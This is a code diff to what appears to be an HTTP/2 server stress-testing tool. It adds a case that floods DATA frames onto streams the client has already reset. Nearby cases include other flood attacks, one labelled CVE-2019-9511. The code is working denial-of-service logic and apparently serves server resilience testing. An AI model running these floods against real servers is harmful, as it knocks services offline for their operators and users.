@@ -220,6 +220,16 @@ def empty_data(address: str, clock: Clock) -> None:
     flood(address, clock, lambda connection: h2.frame(h2.DATA, 0, connection.open(BLOCK)) * 1000)
 
 
+@named("data on streams that the peer has reset")
+def late_data(address: str, clock: Clock) -> None:
+    def prepare(connection: h2.Connection) -> bytes:
+        streams = [connection.open(BLOCK) for _ in range(100)]
+        connection.send_patiently(b"".join(h2.frame(h2.RST_STREAM, 0, stream, CANCEL) for stream in streams), 1)
+        return b"".join(h2.frame(h2.DATA, 0, stream) for stream in streams) * 10
+
+    flood(address, clock, prepare)
+
+
 @named("answers taken a byte at a time by WINDOW_UPDATE (CVE-2019-9511)")
 def dribble(address: str, clock: Clock) -> None:
     body = sort_request(bytes(64 << 10))
